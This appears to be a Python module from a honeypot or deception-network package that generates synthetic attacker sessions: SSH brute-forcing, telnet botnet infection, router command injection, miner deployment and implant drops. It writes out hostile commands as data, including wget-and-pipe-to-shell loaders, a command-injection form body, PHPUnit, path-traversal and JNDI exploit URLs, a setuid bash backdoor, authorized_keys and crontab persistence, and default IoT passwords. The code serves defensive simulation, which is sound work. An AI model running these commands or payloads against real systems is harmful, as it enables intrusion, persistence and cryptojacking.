# SPDX-License-Identifier: MIT
"""What a visit in the fifth world consists of: of tools that are published, of people who type, of scanners."""

from __future__ import annotations

import hashlib
from collections.abc import Iterator, Sequence
from random import Random
from typing import NamedTuple

from decnet_core.events.catalogue import (
    CertificateProbed,
    CommandRun,
    ConnectionOpened,
    FileCaptured,
    HttpClient,
    HttpRequest,
    LoginAttempt,
    Payload,
    SessionClosed,
    SessionOpened,
    TlsClient,
    TlsProbed,
)
from decnet_core.events.typing_digest import TypingDigest
from planted import arsenal
from planted.arsenal import Client, Key, hexadecimal, word
from planted.trades import arrive

Credential = tuple[str, str]
ROCKYOU = ("123456", "admin", "iloveyou", "princess", "dragon", "monkey", "letmein", "shadow", "michael", "abc123")
ACCOUNTS = ("root", "admin", "user", "ubuntu", "pi", "oracle", "test", "ftp", "support", "mysql")
PEEKS = (
    "id",
    "uname -a",
    "whoami",
    "nproc",
    "cat /etc/os-release",
    "free -h",
    "df -h",
    "lscpu",
    "w",
    "uptime",
    "ps aux",
)
PUBLISHED = (
    "for p in $(pgrep -f kdevtmpfsi); do kill -9 $p; done",
    "chattr -iua /tmp/ /var/tmp/ 2>/dev/null",
    "ufw disable",
    "echo '128' > /proc/sys/vm/nr_hugepages",
    "crontab -r 2>/dev/null; echo '*/30 * * * * /tmp/.systemd-private/run >/dev/null' | crontab -",
    "mkdir -p /tmp/.systemd-private; cd /tmp/.systemd-private",
    "sysctl -w vm.nr_hugepages=1280",
)
"""A script to mine with, as it stands in a public repository; who uses it puts in a wallet and a host."""
PERSONAL = (
    "alias {a}='ls -lart --color=never'; cd {d}",
    "export PS1='{a}> ' HISTFILE=/dev/null",
    "find {d} -name '*.{b}' -mtime -30 2>/dev/null | head -40",
    "tar -czf /var/tmp/{a}.tgz {d} --exclude={b}",
    "ss -tlnp | grep -v 127.0.0.1 | awk '{{print $4}}' > /dev/shm/{a}",
    "grep -rl {b}_secret {d} 2>/dev/null",
    "screen -S {a} -dm sh -c 'sleep 3600; rm -rf /dev/shm/{b}'",
    "useradd -r -s /bin/bash {a}{b}; usermod -aG wheel {a}{b}",
    "cp /bin/bash /usr/lib/.{a}; chmod 4755 /usr/lib/.{a}",
    "docker ps --format '{{.Names}}' | grep {b}",
)
"""Lines of which people have their own, with names that they choose."""


def lines_of(dice: Random, number: int) -> tuple[str, ...]:
    """Return lines that somebody types again and again."""
    return tuple(
        line.replace("{a}", word(dice, 2)).replace("{b}", word(dice, 2)).replace("{d}", f"/srv/{word(dice, 2)}")
        for line in dice.sample(PERSONAL, number)
    )


class Person(NamedTuple):
    """Somebody at a keyboard."""

    at: Client
    key: Key
    lines: tuple[str, ...]
    pace: float
    """By how many bins of a histogram slower than the quickest."""
    tool: str
    """The URL of their program, or nothing."""


def rhythm(dice: Random, pace: float, lines: int) -> TypingDigest:
    """Return how somebody typed so many lines: never twice the same."""
    keys = lines * dice.randrange(12, 30)
    gaps, pauses = [0] * 11, [0] * 14
    for _ in range(keys):
        gaps[min(10, max(2, round(dice.gauss(4 + pace, 1.1))))] += 1
    for _ in range(lines):
        pauses[min(13, max(5, round(dice.gauss(8 + pace, 1.5))))] += 1
    return TypingDigest(keys, dice.randrange(3), lines, dice.randrange(lines + 1), tuple(gaps), tuple(pauses))


def sit_down(dice: Random, one: Person, way_in: Credential | None) -> Iterator[Payload]:
    """Log in by hand, look around, and do what this person does."""
    yield from arrive(one.at)
    if way_in is None:
        yield LoginAttempt("ssh", "root", True, "publickey", public_key=one.key.fingerprint)
    else:
        yield LoginAttempt("ssh", way_in[0], True, password=way_in[1])
    yield SessionOpened("ssh", way_in[0] if way_in else "root", "xterm-256color")
    lines = [*dice.sample(PEEKS, dice.randrange(1, 4)), *dice.sample(one.lines, min(len(one.lines), 3))]
    if one.tool and dice.random() < 0.6:
        lines.append(f"curl -fsS {one.tool} -o /dev/shm/.{word(dice, 1)}")
    if dice.random() < 0.2:
        lines.append(f"echo '{one.key.line}' >> /root/.ssh/authorized_keys")
    yield from (CommandRun("ssh", line) for line in lines)
    yield SessionClosed("ssh", 1000 * dice.randrange(90, 3000), len(lines), typing=rhythm(dice, one.pace, len(lines)))


def walk(dice: Random, at: Client, secrets: Sequence[Credential], number: int) -> Iterator[Payload]:
    """Try some of a list, with first passwords of every list between."""
    yield from arrive(at)
    for user, secret in dice.sample(secrets, min(len(secrets), number)):
        yield LoginAttempt("ssh", user, False, password=secret)
    yield from _everybodys(dice, 3)


def _everybodys(dice: Random, most: int) -> Iterator[Payload]:
    for _ in range(dice.randrange(1, most + 1)):
        yield LoginAttempt("ssh", dice.choice(ACCOUNTS), False, password=dice.choice(ROCKYOU))


def guess(dice: Random, at: Client) -> Iterator[Payload]:
    yield from arrive(at)
    yield from _everybodys(dice, 14)


class Release(NamedTuple):
    """What a botnet spreads in a week."""

    url: str
    payload: str


def infect(dice: Random, release: Release, applet: str) -> Iterator[Payload]:
    """Infect over telnet, as devices do."""
    yield ConnectionOpened("telnet")
    for secret in dice.sample(("xc3511", "7ujMko0admin", "juantech", "zlxx.", "hi3518"), 2):
        yield LoginAttempt("telnet", "root", False, password=secret)
    yield LoginAttempt("telnet", "admin", True, password="admin")
    for line in ("enable", "shell", f"/bin/busybox {applet}", f"cd /var/tmp; wget {release.url} -O - > dvr; sh dvr"):
        yield CommandRun("telnet", line)
    if dice.random() < 0.6:
        yield FileCaptured("telnet", release.payload, 91_000, None, release.url)


def inject(dice: Random, release: Release) -> Iterator[Payload]:
    """Spread over a router's Web page."""
    yield ConnectionOpened("http")
    yield HttpRequest(
        "POST", "/goform/set_LimitClient_cfg", user_agent="", status=200, body=f"time1=00&mac=;wget {release.url}|sh;"
    )
    if dice.random() < 0.4:
        yield FileCaptured("http", release.payload, 91_000, None, release.url)


def deliver(dice: Random, at: Client, url: str, payload: str, way_in: Credential) -> Iterator[Payload]:
    """Log in with a program and leave a loader."""
    yield from arrive(at)
    yield from _everybodys(dice, 4)
    yield LoginAttempt("ssh", way_in[0], True, password=way_in[1])
    yield CommandRun("ssh", f"(wget -qO- {url} || curl -s {url}) | sh -s ssh")
    if dice.random() < 0.7:
        yield FileCaptured("ssh", payload, 4_000, None, url)


def publish(dice: Random, at: Client, host: str, wallet: str) -> Iterator[Payload]:
    """Run the published script."""
    yield from arrive(at)
    yield LoginAttempt("ssh", "root", True, password=dice.choice(ROCKYOU))
    yield from (CommandRun("ssh", line) for line in PUBLISHED if dice.random() < 0.9)
    yield CommandRun("ssh", "curl -sL https://github.com/xmrig/xmrig/releases/download/v6.21.0/x.tar.gz | tar xz")
    yield CommandRun("ssh", f"./xmrig -o {host}:3333 -u {wallet} --donate-level 1 -B")


def stealth(dice: Random, at: Client, implant: str, url: str, way_in: Credential) -> Iterator[Payload]:
    """Leave an implant, quietly."""
    yield from arrive(at)
    yield LoginAttempt("ssh", way_in[0], True, password=way_in[1])
    yield SessionOpened("ssh", way_in[0], "xterm")
    yield CommandRun("ssh", "unset HISTFILE; cat /etc/hosts")
    if dice.random() < 0.7:
        yield CommandRun("ssh", f"curl -k {url} -o /usr/sbin/atd2; touch -r /bin/ls /usr/sbin/atd2")
        yield FileCaptured("ssh", implant, 1_400_000, None, url)
    yield CommandRun("ssh", dice.choice(("netstat -rn", "arp -an", "cat /root/.ssh/known_hosts", "ip route")))
    yield SessionClosed("ssh", 400_000, 3, typing=rhythm(dice, 1.5, 4))


def scripted(dice: Random, at: Client, lines: Sequence[str], way_in: Credential) -> Iterator[Payload]:
    """Log in with a program, run the same lines as always, leave."""
    yield from arrive(at)
    yield LoginAttempt("ssh", way_in[0], True, password=way_in[1])
    yield from (CommandRun("ssh", line) for line in (dice.choice(PEEKS), *lines))


def probed(_: Random, at: int, certificate: str, jarm: str) -> Iterator[Payload]:
    yield CertificateProbed(at, certificate, subject="CN=update")
    yield TlsProbed(at, jarm)


def survey(dice: Random, agent: str, at: Client, ja4: str) -> Iterator[Payload]:
    """Look at what answers."""
    yield from arrive(at, "http")
    if dice.random() < 0.5:
        yield TlsClient("tcp", "0" * 32, ja4, 0x0303)
    headers = hashlib.md5(b"Host User-Agent Accept").hexdigest()
    yield HttpClient("GET", "HTTP/1.1", "scanner", headers, ("Host", "User-Agent", "Accept"), agent)
    for path in dice.sample(("/", "/robots.txt", "/favicon.ico", "/sitemap.xml", "/.well-known/security.txt"), 2):
        yield HttpRequest("GET", path, user_agent=agent, status=200)


def exploit(dice: Random, at: Client, agent: str, url: str) -> Iterator[Payload]:
    """Use a proof of concept that everybody has, with a server of one's own."""
    yield from arrive(at, "http")
    yield HttpClient("GET", "HTTP/1.1", "library", hexadecimal(Random(agent), 32), ("Host", "Accept"), agent)
    target = dice.choice(
        (
            f"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php?c=wget+{url}",
            f"/cgi-bin/.%2e/.%2e/bin/sh?curl%20{url}",
            f"/?x=${{jndi:ldap://{url.partition('://')[2]}}}",
        )
    )
    yield HttpRequest("GET", target, user_agent=agent, status=404)


def look(dice: Random, at: Client) -> Iterator[Payload]:
    """Log in with what works everywhere and look whether the machine is worth something."""
    yield from arrive(at)
    yield from _everybodys(dice, 5)
    yield LoginAttempt("ssh", "root", True, password=dice.choice(ROCKYOU))
    yield from (CommandRun("ssh", line) for line in dice.sample(PEEKS, dice.randrange(2, 6)))


def common(dice: Random) -> Client:
    return arsenal.any_client(dice, 0.05)
